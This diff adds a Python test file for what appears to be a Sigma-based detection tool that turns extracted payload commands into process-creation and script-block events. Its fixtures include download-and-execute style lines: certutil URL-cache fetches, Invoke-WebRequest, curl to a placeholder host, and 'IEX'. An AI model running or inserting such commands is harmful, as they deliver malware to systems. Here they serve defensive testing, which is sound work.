@@ -1,0 +1,52 @@
+"""Events carry only what a payload shows: commands become process creations, PowerShell text a script block."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from inspector.sigma import EventKind, process_event, script_block_event
+
+
+@dataclass(frozen=True)
+class Command:
+    """The fields of an extracted command (`inspector.commands.ExtractedCommand`) events read."""
+
+    command_line: str
+    shell: str
+    image: str
+    parent_image: str
+    offset: int = 0
+    length: int = 0
+
+
+CMD = "C:\\Windows\\System32\\cmd.exe"
+
+
+def test_a_windows_command_is_a_process_creation_with_what_is_known() -> None:
+    event = process_event(Command("certutil -urlcache -f http://x a.exe", "cmd",
+                                  "C:\\Windows\\System32\\certutil.exe", CMD, 10, 36))
+    assert event is not None and event.kind is EventKind.WINDOWS_PROCESS
+    assert event.fields == {"image": "C:\\Windows\\System32\\certutil.exe",
+                            "commandline": "certutil -urlcache -f http://x a.exe",
+                            "parentimage": CMD, "originalfilename": "certutil.exe"}
+    assert (event.offset, event.length) == (10, 36)
+
+
+def test_the_original_file_name_is_known_only_for_the_systems_own_binaries() -> None:
+    event = process_event(Command("C:\\Users\\Public\\svc.exe", "cmd", "C:\\Users\\Public\\svc.exe", CMD))
+    assert event is not None and "originalfilename" not in event.fields
+
+
+def test_a_cmdlet_starts_no_process() -> None:
+    assert process_event(Command("Invoke-WebRequest http://x", "powershell", "", "powershell.exe")) is None
+
+
+def test_a_shell_command_is_a_linux_process_creation() -> None:
+    event = process_event(Command("curl -s http://x", "shell", "/usr/bin/curl", "/bin/bash"))
+    assert event is not None and event.kind is EventKind.LINUX_PROCESS
+    assert event.fields == {"image": "/usr/bin/curl", "commandline": "curl -s http://x", "parentimage": "/bin/bash"}
+
+
+def test_a_powershell_layer_is_a_script_block() -> None:
+    event = script_block_event("IEX $x")
+    assert event.kind is EventKind.POWERSHELL_SCRIPT and event.fields == {"scriptblocktext": "IEX $x"}
